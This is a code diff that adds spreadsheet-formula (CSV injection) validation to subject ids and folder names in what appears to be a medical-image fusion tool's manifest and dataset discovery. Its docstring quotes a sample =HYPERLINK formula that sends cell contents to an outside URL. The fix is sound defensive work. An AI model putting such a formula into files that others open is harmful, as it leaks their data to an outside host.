@@ -238,6 +238,19 @@ def _row_error(path: Path, row: int, problem: str, fix: str) -> InvalidInputErro
     return InvalidInputError(f"manifest row {row}: {problem}", fix=fix, path=path)
 
 
+def _formula_like(text: str) -> bool:
+    """Whether a spreadsheet would take ``text`` as a formula: it starts with =, +, @, a tab or carriage return, or
+    with - unless it is a plain number ("-01").
+
+    Why: the batch report and a written manifest repeat subject ids, and a subject (or dataset folder) named
+    ``=HYPERLINK("http://...?d="&B2)`` ran as a formula in Excel when the report was opened (CSV injection).
+    """
+    import re
+
+    t = text.lstrip(" ")
+    return bool(t) and (t[0] in "=+@\t\r" or (t[0] == "-" and not re.fullmatch(r"-\d+(\.\d+)?", t.strip())))
+
+
 def _subject_from(raw: Mapping[str, Any], *, base: Path, path: Path, row: int,
                   defaults: Mapping[str, Any]) -> Subject:
     d = {**defaults, **{str(k).strip().lower(): v for k, v in raw.items() if k is not None}}
@@ -263,6 +276,10 @@ def _subject_from(raw: Mapping[str, Any], *, base: Path, path: Path, row: int,
         if not d.get(key) or not str(d[key]).strip():
             raise _row_error(path, row, f"'{key}' is missing or empty",
                              "give every row subject, fixed, moving and output")
+    if _formula_like(str(d["subject"])):
+        raise _row_error(path, row, "the subject id starts like a spreadsheet formula (=, +, -, @)",
+                         "rename the subject: the report repeats it, and a spreadsheet opening the report would "
+                         "run it as a formula")
     moving: List[str] = []
     for key in sorted((k for k in d if k.startswith("moving")), key=lambda k: (k != "moving", k)):
         v = d[key]
@@ -948,6 +965,11 @@ def discover(dataset: PathLike, *, out_dir: Optional[PathLike] = None) -> List[S
             continue
         if _only_outputs(path):  # an earlier run's outputs (a manifest's out/ folder) are no subject either
             continue
+        if _formula_like(entry.name):
+            raise InvalidInputError(f"the subject folder {entry.name!r} is named like a spreadsheet formula "
+                                    "(it starts with =, +, - or @)",
+                                    fix="rename the folder: the report repeats it as the subject id, and a "
+                                        "spreadsheet opening the report would run it as a formula", path=root)
         output = os.fspath(out / f"{entry.name}_fused.nii.gz")
         subjects.append(Subject(subject=entry.name, fixed="", moving=[], output=output, folder=os.fspath(path)))
     if not subjects:
